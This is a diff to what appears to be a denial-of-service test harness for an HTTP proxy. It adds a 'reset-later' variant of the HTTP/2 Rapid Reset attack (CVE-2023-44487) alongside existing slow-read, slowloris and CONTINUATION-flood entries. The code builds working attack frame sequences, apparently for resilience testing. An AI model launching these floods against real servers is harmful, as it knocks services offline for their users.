@@ -207,6 +207,7 @@ def by_http2(first, burst, **how):
 
 
 GET = frames.head(b"/echo")
+SLOW_GET = frames.head(b"/slow/1000")
 # 1 MB each: what is not read of it must not gather in the proxy
 LARGE = frames.head(b"/bytes/1000000")
 POST = frames.head(b"/echo", b"POST")
@@ -220,6 +221,15 @@ def rapid_reset(number):
     """CVE-2023-44487: requests that are taken back at once, so that they never count as open."""
     streams = range(number * 100 + 1, number * 100 + 101, 2)
     return b"".join(frames.frame(HEADERS, END, stream, GET) + frames.reset(stream) for stream in streams), 100
+
+
+@functools.cache
+def reset_later(number):
+    """The same, but each request has reached its agent by the time that it is taken back."""
+    streams = range(number // 2 * 100 + 1, number // 2 * 100 + 101, 2)
+    if number % 2:
+        return b"".join(frames.reset(stream) for stream in streams), 50
+    return b"".join(frames.frame(HEADERS, END, stream, SLOW_GET) for stream in streams), 50
 
 
 @functools.cache
@@ -380,6 +390,7 @@ ATTACKS = {
     "slow-body": Attack(slowhttptest("B", "-i", "2", "-s", "8192", "-x", "10"), *HTTP1),
     "slow-read": Attack(slowhttptest("X", "-w", "512", "-y", "1024", "-n", "3", "-z", "32", "-k", "3"), *HTTP1),
     "rapid-reset": Attack(by_http2(START, rapid_reset), *HTTP2),
+    "reset-later": Attack(by_http2(START, reset_later), *HTTP2),
     "made-to-reset": Attack(by_http2(START, made_to_reset), *HTTP2),
     "continuation": Attack(by_http2(START, continuations), *HTTP2),
     "continuation-empty": Attack(by_http2(START, empty_continuations), *HTTP2),
